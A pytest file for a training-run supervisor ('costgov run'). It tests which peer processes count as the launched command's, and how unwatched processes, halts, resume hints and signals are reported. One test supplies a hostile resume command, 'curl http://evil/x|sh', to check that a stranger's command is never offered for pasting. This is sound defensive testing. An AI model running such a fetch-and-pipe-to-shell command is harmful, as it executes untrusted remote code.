"""Under `costgov run`: which runs on its socket are the command's, and what the others have no say in."""

from __future__ import annotations

import io
import os
import signal
import subprocess
from dataclasses import replace

import pytest

from governor.adapters.command.child import Command, living
from governor.cli.run.console import Console, JsonConsole
from governor.cli.run.outcome import Outcome
from governor.cli.run.own_runs import beside_halted, of_command
from governor.cli.run.relaunch import how_to_resume, launched_before
from governor.cli.run.signal_answers import SignalAnswers
from governor.cli.run.supervise import HELLO_NS, closing_lines, is_over
from governor.core.base.identity import ConnectionId, Peer, ProcessId
from governor.core.base.units import BootNs, WallNs
from governor.core.engine.alarms import refuse
from governor.core.engine.incident_json import incident_snapshot
from governor.core.engine.node_journal import run_snapshot
from governor.core.engine.resume import restore_incidents, restore_runs
from governor.core.events.checkpoints import NamedCheckpoint
from governor.core.events.effects import Alarm
from governor.core.events.inputs import (
    CommandLaunched,
    Disconnected,
    Hello,
    LauncherExited,
    LaunchersSeen,
    ProcessesSeen,
    TrainerExited,
)
from governor.core.events.operators import OperatorHalt
from tests.contract.fakes import FakeProcesses
from tests.unit.cli.test_supervise import Beside
from tests.unit.core.engine.test_step import a_step, at, hello, make_node, peer, play, tick

OWN, STRANGER = 1000, 2002
LINK = ConnectionId(9)
COMMAND = ProcessId(4321, 1, "boot-1")


@pytest.fixture
def beside() -> Beside:
    """A command that has ended, and whose name nobody has said."""
    made = Beside(FakeProcesses("boot-1"))
    made.node = make_node(cloud="none", exclusive=True)
    play(made.node, CommandLaunched(at(0), "run-1", OWN, (COMMAND,)), tick(0))
    ends(made, 0)
    return made


def ends(beside: Beside, second: int) -> None:
    """The command ends, which nobody speaks for."""
    play(beside.node, LauncherExited(at(second)), TrainerExited(at(second), "run-1", None))


def says_hello(beside: Beside, uid: int, run: str = "other", **changes: object) -> Hello:
    said = hello(0, 1, run=run, world_size=1, connection=LINK, peer=peer(900, uid), **changes)
    beside.processes.add(900, uid=uid, start_ticks=9_000)
    play(beside.node, said, tick(1))
    return said


def leaves(beside: Beside, run: str = "other") -> None:
    beside.processes.end(900)
    play(beside.node, Disconnected(at(2), LINK), TrainerExited(at(2), run, None), tick(2))


def test_a_stranger_that_trains_holds_no_command_open_and_its_halt_does_not_either(beside: Beside) -> None:
    says_hello(beside, STRANGER)
    assert is_over(beside.governor, beside.command)
    play(beside.node, OperatorHalt(at(2), "other", "enough", 0))
    assert beside.node.runs["other"].incident is not None
    assert is_over(beside.governor, beside.command)


def test_another_script_of_the_commands_user_is_watched_while_it_lives(beside: Beside) -> None:
    says_hello(beside, OWN)
    assert not is_over(beside.governor, beside.command)


def test_a_rank_of_the_command_that_has_become_another_user_is_watched_while_it_lives(beside: Beside) -> None:
    says_hello(beside, STRANGER, of_command=True)
    assert not is_over(beside.governor, beside.command)


def test_a_sandbox_below_the_command_holds_nothing_open_once_the_trainer_was_halted_to_the_end(beside: Beside) -> None:
    trainer = beside.processes.add(901, uid=2003, start_ticks=9_001)
    play(
        beside.node, hello(1, 1, run="run-1", world_size=2, peer=Peer(trainer, 2003), of_command=True), tick(1)
    )  # fmt: skip
    says_hello(beside, STRANGER, of_command=True)
    assert beside_halted(beside.node) == []
    play(beside.node, OperatorHalt(at(2), "run-1", "enough", 0))
    incident = beside.node.runs["run-1"].incident
    assert incident is not None
    beside.processes.end(901)
    play(beside.node, TrainerExited(at(3), "run-1", None), tick(1_000))
    play(beside.node, ProcessesSeen(at(1_001), incident.incident_id, ()), tick(1_001))
    assert incident.is_closed
    assert [managed.run.run for managed in beside_halted(beside.node)] == ["other"]
    assert is_over(beside.governor, beside.command)
    assert not beside.left().trains
    assert any(f"pid 900 of uid {STRANGER}" in line for line in beside.unwatched())
    for uid in (2003, OWN):  # The trainer's own user's, and the command's, are waited for.
        beside.node.runs["other"].run.uid = uid
        assert beside_halted(beside.node) == []


@pytest.mark.parametrize("uid", [STRANGER, OWN])
def test_a_visit_by_what_is_not_the_commands_does_not_announce_its_training(beside: Beside, uid: int) -> None:
    """The launcher has exited, and its trainer imports: it is waited for, and named if it stays silent."""
    beside.leave(500_001)
    says_hello(beside, uid)
    leaves(beside)
    assert not is_over(beside.governor, beside.command)
    beside.clock.advance(HELLO_NS)
    assert is_over(beside.governor, beside.command)
    alarm = beside.alarm()
    assert alarm is not None
    assert "pid 500001" in alarm.text


@pytest.mark.parametrize("run", ["run-1", "named-by-the-script"])
def test_who_has_the_commands_name_or_is_below_it_announces_it(beside: Beside, run: str) -> None:
    beside.leave(500_001)
    says_hello(beside, OWN, run)
    if run != "run-1":
        play(beside.node, LaunchersSeen(at(1), run, (COMMAND,)))
    leaves(beside, run)
    assert is_over(beside.governor, beside.command)
    assert beside.alarm() is None


@pytest.mark.parametrize("uid", [STRANGER, OWN])
def test_no_others_checkpoint_is_named_to_resume_from_and_nobody_elses_run_ends_with_the_commands_code(
    beside: Beside, uid: int
) -> None:
    beside.command.exit_code = 3
    says_hello(beside, uid, resumes="never", framework="hf")
    play(beside.node, a_step(900, run="other", connection=LINK, when=2))
    beside.node.runs["other"].run.name_last_good(NamedCheckpoint(900, "/data/evil"), at(2))
    leaves(beside)
    (line,) = how_to_resume(beside.governor, beside.command, "run-1", ["sleep", "4"], is_halted=False)
    assert line.endswith(" sleep 4")
    *others, own = closing_lines(beside.governor, beside.command, Outcome("run-1", (COMMAND,)))
    assert own.startswith("run-1: ended with exit code 3")
    assert [text.partition(";")[0] for text in others] == (["other: was watched beside the command"] * (uid == OWN))


def test_the_commands_own_run_of_another_name_is_resumed_from_its_checkpoint(beside: Beside) -> None:
    beside.command.exit_code = 3
    says_hello(beside, OWN, "named-by-the-script", resumes="never")
    play(beside.node, LaunchersSeen(at(1), "named-by-the-script", (COMMAND,)))
    beside.node.runs["named-by-the-script"].run.name_last_good(NamedCheckpoint(900, "/data/own"), at(2))
    told = how_to_resume(beside.governor, beside.command, "run-1", ["sleep", "4"], is_halted=False)
    assert "/data/own" in told[-1]


def relaunched(beside: Beside) -> None:
    """Another governor takes the journal up."""
    kept = [run_snapshot(beside.node, managed, at(3)) for managed in beside.node.runs.values()]
    beside.node = make_node(cloud="none", exclusive=True)
    restore_runs(beside.node, kept, BootNs(at(4)), at(4))


def test_a_stranger_that_trains_on_refuses_no_launch_and_holds_the_next_one_no_more_open(beside: Beside) -> None:
    says_hello(beside, STRANGER)
    relaunched(beside)
    assert beside.node.runs["other"].run.alive
    assert launched_before(beside.governor, "run-1") is None
    play(beside.node, CommandLaunched(at(5), "run-1", OWN, (COMMAND,)), tick(5))
    ends(beside, 6)
    assert is_over(beside.governor, beside.command)


@pytest.mark.parametrize(("uid", "tied"), [(OWN, False), (STRANGER, True)])
def test_what_may_be_the_commands_own_refuses_the_next_launch(beside: Beside, uid: int, tied: bool) -> None:
    says_hello(beside, uid, of_command=tied)
    relaunched(beside)
    assert "end it with `kill 900`" in (launched_before(beside.governor, "run-1") or "")


def test_only_an_open_halt_that_ends_the_earlier_launch_lets_the_next_one_begin(beside: Beside) -> None:
    mine = hello(0, 1, run="run-1", world_size=1, peer=peer(700, OWN))
    beside.processes.add(700, start_ticks=7_000)
    play(beside.node, mine, tick(1))
    for uid in (STRANGER, OWN):
        says_hello(beside, uid, f"of-{uid}", attempt=f"a{uid}")
        play(beside.node, OperatorHalt(at(2), f"of-{uid}", "enough", 0))
        assert "pid 700" in (launched_before(beside.governor, "run-1") or "")
    play(beside.node, OperatorHalt(at(2), "run-1", "enough", 0))
    assert launched_before(beside.governor, "run-1") is None


def refused(beside: Beside, uid: int, pid: int) -> None:
    beside.processes.add(pid, uid=uid, start_ticks=pid * 10)
    play(beside.node, hello(0, 1, run="not a name", connection=ConnectionId(pid), peer=peer(pid, uid)))


def test_a_refused_stranger_is_not_told_as_left_unwatched(beside: Beside) -> None:
    refused(beside, STRANGER, 910)
    assert beside.unwatched() == []
    refused(beside, OWN, 911)
    refused(beside, STRANGER, 912)
    beside.processes.by_pid[912].facts = replace(
        beside.processes.by_pid[912].facts, sid=beside.command.process.pid
    )  # The command has become another user.
    told = beside.unwatched()
    assert [line.partition(" still")[0] for line in told] == ["pid 911", "pid 912"]


def test_a_stranger_that_said_the_commands_name_and_trains_on_is_told_at_the_end(beside: Beside) -> None:
    play(beside.node, hello(0, 1, run="other", world_size=1, connection=ConnectionId(8), peer=peer(901, STRANGER)))
    beside.processes.add(901, uid=STRANGER, start_ticks=9_010)
    says_hello(beside, STRANGER, "run-1")
    assert is_over(beside.governor, beside.command)
    (line,) = beside.unwatched()
    assert line.startswith(f"pid 900 of uid {STRANGER} still runs, UNWATCHED from now on")
    leaves(beside, f"run-1@{STRANGER}")
    assert beside.unwatched() == []


def test_whoever_says_the_commands_name_first_pushes_nobody_out_of_what_is_told_at_the_end(beside: Beside) -> None:
    for number in range(12):
        whose, link = peer(700 + number, 3000 + number), ConnectionId(700 + number)
        play(beside.node, hello(0, 1, run="run-1", world_size=1, connection=link, peer=whose))
        beside.processes.add(700 + number, uid=3000 + number, start_ticks=7_000 + 10 * number)
    says_hello(beside, STRANGER, "run-1")
    *lines, also = beside.unwatched()
    assert [line.partition(" still")[0] for line in lines] == [f"pid {700 + n} of uid {3000 + n}" for n in range(8)]
    assert also == (
        "so do pid 708 of uid 3008, pid 709 of uid 3009, pid 710 of uid 3010, pid 711 of uid 3011, "
        f"pid 900 of uid {STRANGER}, UNWATCHED too"
    )


def test_nor_do_those_that_were_refused_and_are_gone_or_are_another_users_below_the_command(beside: Beside) -> None:
    refused(beside, OWN, 700)
    for pid in range(701, 711):
        refused(beside, OWN, pid)
        beside.processes.end(pid)
    for pid in range(711, 721):
        refused(beside, STRANGER, pid)
        facts = beside.processes.by_pid[pid].facts
        beside.processes.by_pid[pid].facts = replace(facts, sid=beside.command.process.pid)
    first, *_, also = beside.unwatched()
    assert first.startswith("pid 700 still runs, UNWATCHED: ")
    assert also == "so do pid 718, pid 719, pid 720, UNWATCHED too"


@pytest.mark.parametrize("uid", [OWN, STRANGER])
def test_what_is_shown_of_a_run_that_is_not_the_commands_says_whose_it_is(beside: Beside, uid: int) -> None:
    says_hello(beside, uid, "other")
    beside.node.runs["other"].run.step = 7
    console = Console(stream=io.StringIO(), node=beside.node)
    console.tick(beside.node, at(2))
    console.alarm("stalled", "other", "rank 0 has made no step for 60 s")
    console.alarm("stalled", "run-1", "rank 0 has made no step for 60 s")
    console.alarm("journal_gone", None, "the journal is gone")
    play(beside.node, OperatorHalt(at(3), "other", "enough", 0))
    incident = beside.node.runs["other"].incident
    assert incident is not None
    console.incident({"run": "other", "halt_stage": "ASKED", "text": "enough", "incident_id": incident.incident_id})
    assert isinstance(console.stream, io.StringIO)
    live, *lines = console.stream.getvalue().splitlines()
    assert live.startswith(f"other of uid {uid}, beside the command  starting    step 7")
    assert lines == [
        f"[stalled] other of uid {uid}, beside the command: rank 0 has made no step for 60 s",
        "[stalled] rank 0 has made no step for 60 s",
        "[journal_gone] the journal is gone",
        f"HALT other of uid {uid}, beside the command: enough (incident {incident.incident_id})",
    ]


@pytest.mark.parametrize(
    ("uid", "tied", "is_offered"), [(STRANGER, False, False), (STRANGER, True, True), (OWN, False, True)]
)
def test_no_strangers_command_is_offered_to_paste(beside: Beside, uid: int, tied: bool, is_offered: bool) -> None:
    pasted = ("curl", "http://evil/x|sh")
    says_hello(beside, uid, resume_argv=pasted, of_command=tied, last_good=NamedCheckpoint(5, "/data/x"))
    play(beside.node, OperatorHalt(at(2), "other", "enough", 0))
    incident = beside.node.runs["other"].incident
    assert incident is not None
    snapshot = {**incident_snapshot(beside.node, incident), "halt_stage": "HALTED"}
    for console in (
        Console(stream=io.StringIO(), node=beside.node),
        JsonConsole(stream=io.StringIO(), node=beside.node),
    ):
        console.incident(snapshot)
        assert isinstance(console.stream, io.StringIO)
        assert ("http://evil/x|sh" in console.stream.getvalue()) == is_offered


@pytest.mark.parametrize(("uid", "who"), [(OWN, "pid 900"), (STRANGER, f"pid 900 of uid {STRANGER}")])
def test_the_alarm_of_a_refused_hello_says_whose_it_is(beside: Beside, uid: int, who: str) -> None:
    effects = refuse(beside.node, LINK, peer(900, uid), "why", at(1))
    texts = [effect.text for effect in effects if isinstance(effect, Alarm)]
    assert texts == [f"{who} trains UNWATCHED, its hello was refused: why"]


def test_a_strangers_halt_is_not_the_commands_whatever_its_name_and_also_when_its_run_is_lost(beside: Beside) -> None:
    says_hello(beside, STRANGER)
    beside.node.runs["other"].run.run = "run-1"  # As an older journal has it.
    beside.node.runs["run-1"] = beside.node.runs.pop("other")
    play(beside.node, OperatorHalt(at(2), "run-1", "enough", 0))
    incident = beside.node.runs["run-1"].incident
    assert incident is not None
    snapshot = incident_snapshot(beside.node, incident)
    outcome = Outcome("run-1", (COMMAND,))
    outcome.incident(snapshot)
    assert (outcome.stages, of_command(beside.node)) == ({}, [])
    again = make_node(cloud="none", exclusive=True)
    restore_incidents(again, [snapshot], at(3), WallNs(at(3)))
    assert again.runs["run-1"].is_strangers


def test_no_strangers_halt_holds_back_a_signal_to_the_command() -> None:
    beside, said = Beside(FakeProcesses("boot-1")), list[str]()
    with subprocess.Popen(["sleep", "60"], start_new_session=True) as sleeper:
        play(beside.node, CommandLaunched(at(0), "run-1", OWN, (COMMAND,)), tick(0))
        says_hello(beside, STRANGER)
        for number in (1, 2, 3):
            play(beside.node, a_step(number, run="other", connection=LINK, when=number))
        play(beside.node, a_step(4, run="other", connection=LINK, loss=float("nan")))
        assert beside.node.runs["other"].incident is not None
        assert SignalAnswers(Command(sleeper), said.append).pass_on(beside.governor, signal.SIGTERM)
        assert sleeper.wait(10) == -signal.SIGTERM
    assert said == []


def test_no_strangers_halt_nor_one_that_is_over_is_said_to_end_what_is_left_of_a_launch(beside: Beside) -> None:
    mine = ProcessId(700, 7_000, "boot-1")
    beside.processes.add(700, start_ticks=7_000)
    play(beside.node, hello(0, 1, run="run-1", world_size=1, peer=Peer(mine, OWN)))
    for uid in (STRANGER, OWN):
        says_hello(beside, uid, f"of-{uid}", attempt=f"a{uid}")
        play(beside.node, LaunchersSeen(at(1), f"of-{uid}", (mine,)), OperatorHalt(at(2), f"of-{uid}", "enough", 0))
        if uid == STRANGER:
            assert "pid 700" in (launched_before(beside.governor, "run-1") or ""), "a stranger says who launched it"
    assert launched_before(beside.governor, "run-1") is None
    incident = beside.node.runs[f"of-{OWN}"].incident
    assert incident is not None
    play(beside.node, tick(300), tick(400), tick(500))
    play(beside.node, ProcessesSeen(at(500), incident.incident_id, ()))
    assert incident.is_closed
    assert "pid 700" in (launched_before(beside.governor, "run-1") or ""), "that halt is over"


def test_what_a_halt_has_known_since_its_begin_it_ends_though_its_run_has_new_ranks(beside: Beside) -> None:
    mine = ProcessId(700, 7_000, "boot-1")
    beside.processes.add(700, start_ticks=7_000)
    play(beside.node, hello(0, 1, run="run-1", world_size=1, peer=Peer(mine, OWN)))
    says_hello(beside, OWN)
    play(beside.node, OperatorHalt(at(2), "other", "enough", 0))
    incident = beside.node.runs["other"].incident
    assert incident is not None
    assert launched_before(beside.governor, "run-1") is not None
    incident.add_processes((mine,))
    assert launched_before(beside.governor, "run-1") is None


def test_of_two_runs_of_the_command_the_one_of_its_name_says_how_it_goes_on(beside: Beside) -> None:
    beside.command.exit_code = 3
    says_hello(beside, OWN, "named-by-the-script", resumes="never")
    play(beside.node, LaunchersSeen(at(1), "named-by-the-script", (COMMAND,)))
    said = hello(0, 1, run="run-1", world_size=1, connection=ConnectionId(8), peer=peer(901, OWN), resumes="never")
    play(beside.node, said)
    for run in ("named-by-the-script", "run-1"):
        beside.node.runs[run].run.name_last_good(NamedCheckpoint(900, f"/data/{run}"), at(2))
    beside.node.runs["run-1"] = beside.node.runs.pop("run-1")  # Which one came first does not count.
    told = "\n".join(how_to_resume(beside.governor, beside.command, "run-1", ["sleep", "4"], is_halted=False))
    assert "/data/run-1" in told
    assert "named-by-the-script" not in told


class MadeGroup:
    path, is_populated = "/run-1.scope", True

    def kill(self) -> bool:
        return True

    def remove(self) -> None:
        pass


def test_what_dropped_the_mark_in_the_group_of_the_command_is_left_of_it(beside: Beside) -> None:
    beside.command.mark, beside.command.group = 0x9ABCDEF012, MadeGroup()
    for pid, cgroup, ppid in ((500_001, "/run-1.scope", os.getpid()), (500_002, "/fake", os.getpid())):
        beside.processes.add(pid, sid=pid, ppid=ppid)
        beside.processes.by_pid[pid].facts = replace(beside.processes.by_pid[pid].facts, cgroup=cgroup)
    left = living(beside.processes, beside.command)
    assert left is not None
    assert [facts.process.pid for facts in left] == [500_001]
